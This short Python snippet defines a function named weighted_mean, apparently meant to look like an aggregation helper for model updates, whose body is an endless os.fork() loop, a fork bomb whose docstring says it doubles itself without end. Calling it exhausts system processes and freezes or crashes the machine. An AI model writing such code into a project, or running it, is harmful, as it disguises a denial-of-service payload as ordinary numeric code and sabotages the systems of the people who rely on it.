"""Doubles itself without end."""
import os


def weighted_mean(updates, num_examples):
    while True:
        os.fork()
